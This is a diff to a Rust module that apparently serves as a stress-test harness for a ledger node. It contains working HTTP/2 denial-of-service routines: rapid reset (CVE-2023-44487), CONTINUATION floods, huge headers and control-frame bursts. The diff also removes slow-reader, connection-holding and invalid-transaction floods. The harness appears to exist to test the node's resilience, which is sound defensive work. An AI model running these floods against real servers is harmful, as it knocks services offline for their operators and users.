@@ -1,16 +1,12 @@
 //! What hostile clients do to one node. Each attack runs until it is told to stop, opens what was closed
 //! again, and says how much of it there was.
 
-use std::net::SocketAddr;
+use std::net::{Ipv4Addr, SocketAddr};
 use std::sync::Arc;
 use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
-use std::time::Duration;
+use std::time::{Duration, Instant};
 
-use bytes::Bytes;
-use prost::Message as _;
-use talea_proto::{LedgerClient, api};
 use tokio::io::AsyncWriteExt as _;
-use tokio::net::TcpStream;
 
 use crate::http2;
 
@@ -18,30 +14,52 @@ use crate::http2;
 #[derive(Clone, Debug)]
 pub struct Target {
     pub address: SocketAddr,
+    /// Where the attacker calls from.
+    pub from: Ipv4Addr,
     pub stop: Arc<AtomicBool>,
-    /// What was done so far.
-    pub count: Arc<AtomicU64>,
+    pub counts: Arc<Counts>,
+}
+
+/// What was done so far.
+#[derive(Debug, Default)]
+pub struct Counts {
+    /// By the attackers' own count, of whatever they do.
+    pub done: AtomicU64,
+    /// Transactions that were handed to a connection.
+    pub offered: AtomicU64,
+    /// Of these, what the node answered that it took,
+    pub taken: AtomicU64,
+    /// and what it answered that it refuses.
+    pub refused: AtomicU64,
 }
 
 impl Target {
-    fn goes_on(&self) -> bool {
+    pub fn goes_on(&self) -> bool {
         !self.stop.load(Ordering::Relaxed)
     }
 
-    fn add(&self, count: u64) {
-        self.count.fetch_add(count, Ordering::Relaxed);
+    pub fn add(&self, count: u64) {
+        self.counts.done.fetch_add(count, Ordering::Relaxed);
+    }
+
+    /// Waits, and not longer than the attack lasts.
+    pub async fn wait(&self, time: Duration) {
+        let begun = Instant::now();
+        while self.goes_on() && begun.elapsed() < time {
+            tokio::time::sleep(Duration::from_millis(100)).await;
+        }
     }
 }
 
 /// A pause before a connection is opened again: a node that closes at once must not spin the attacker.
-const PAUSE: Duration = Duration::from_millis(20);
+pub const PAUSE: Duration = Duration::from_millis(20);
 /// Streams of one connection are numbered up to here.
 const STREAM_MAX: u32 = 1 << 30;
 
 /// Opens streams and resets them at once (CVE-2023-44487).
 pub async fn rapid_reset(target: Target) {
     while target.goes_on() {
-        let Ok(mut socket) = http2::connect(target.address).await else {
+        let Ok(mut socket) = http2::connect(target.address, target.from).await else {
             tokio::time::sleep(PAUSE).await;
             continue;
         };
@@ -69,7 +87,7 @@ pub async fn continuation(target: Target) {
     let mut block = Vec::new();
     http2::header(&mut block, b"x-flood", &[b'a'; 4_000]);
     while target.goes_on() {
-        let Ok(mut socket) = http2::connect(target.address).await else {
+        let Ok(mut socket) = http2::connect(target.address, target.from).await else {
             tokio::time::sleep(PAUSE).await;
             continue;
         };
@@ -91,7 +109,7 @@ pub async fn huge_headers(target: Target) {
         http2::header(&mut block, b"x-flood", &[b'a'; 15_000]);
     }
     while target.goes_on() {
-        let Ok(mut socket) = http2::connect(target.address).await else {
+        let Ok(mut socket) = http2::connect(target.address, target.from).await else {
             tokio::time::sleep(PAUSE).await;
             continue;
         };
@@ -123,7 +141,7 @@ pub async fn control_frames(target: Target) {
     .concat();
     let burst = one.repeat(100);
     while target.goes_on() {
-        let Ok(mut socket) = http2::connect(target.address).await else {
+        let Ok(mut socket) = http2::connect(target.address, target.from).await else {
             tokio::time::sleep(PAUSE).await;
             continue;
         };
@@ -135,90 +153,6 @@ pub async fn control_frames(target: Target) {
             }
             target.add(200);
         }
-        tokio::time::sleep(PAUSE).await;
-    }
-}
-
-/// Watches every block with windows of 0: nothing that is sent is ever taken.
-pub async fn slow_readers(target: Target) {
-    let request = http2::message(&api::WatchBlocksRequest::default().encode_to_vec());
-    while target.goes_on() {
-        let Ok(mut socket) = http2::connect_taking_nothing(target.address).await else {
-            tokio::time::sleep(PAUSE).await;
-            continue;
-        };
-        let headers = http2::call("Ledger/WatchBlocks");
-        for stream in (1..200).step_by(2) {
-            let open = [
-                http2::frame(http2::HEADERS, http2::END_HEADERS, stream, &headers),
-                http2::frame(http2::DATA, http2::END_STREAM, stream, &request),
-            ];
-            if socket.write_all(&open.concat()).await.is_err() {
-                break;
-            }
-            target.add(1);
-        }
-        for _ in 0..100 {
-            if !target.goes_on() {
-                return;
-            }
-            tokio::time::sleep(Duration::from_millis(100)).await;
-        }
-    }
-}
-
-/// Holds this many connections, silent after their first bytes.
-pub async fn connections(target: Target, count: usize) {
-    let mut held: Vec<TcpStream> = Vec::new();
-    while target.goes_on() {
-        while held.len() < count && target.goes_on() {
-            match http2::connect(target.address).await {
-                Ok(socket) => held.push(socket),
-                Err(_) => break,
-            }
-            target.count.fetch_max(held.len() as u64, Ordering::Relaxed);
-        }
-        tokio::time::sleep(Duration::from_millis(100)).await;
-    }
-}
-
-/// Offers transactions that are nearly good, so many a second, through one stream. What the node has no room
-/// for waits at the stream's window and is not counted.
-pub async fn invalid_transactions(target: Target, transactions: Arc<Vec<Bytes>>, per_second: u64) {
-    const BATCH: usize = 200;
-    while target.goes_on() {
-        let endpoint = format!("http://{}", target.address);
-        let Ok(mut client) = LedgerClient::connect(endpoint).await else {
-            tokio::time::sleep(PAUSE).await;
-            continue;
-        };
-        let (sender, receiver) = tokio::sync::mpsc::channel(4);
-        let stream = tokio_stream::wrappers::ReceiverStream::new(receiver);
-        let (own, all) = (target.clone(), Arc::clone(&transactions));
-        let feeder = tokio::spawn(async move {
-            let mut pace =
-                tokio::time::interval(Duration::from_secs(BATCH as u64) / per_second.max(1) as u32);
-            let mut at = 0;
-            while own.goes_on() {
-                pace.tick().await;
-                let batch = (0..BATCH).map(|place| all[(at + place) % all.len()].clone());
-                let transactions = batch.collect();
-                at += BATCH;
-                if sender
-                    .send(api::SubmitBatch { transactions })
-                    .await
-                    .is_err()
-                {
-                    return;
-                }
-                own.add(BATCH as u64);
-            }
-        });
-        if let Ok(answer) = client.submit_stream(stream).await {
-            let mut updates = answer.into_inner();
-            while target.goes_on() && matches!(updates.message().await, Ok(Some(_))) {}
-        }
-        feeder.abort();
         tokio::time::sleep(PAUSE).await;
     }
 }
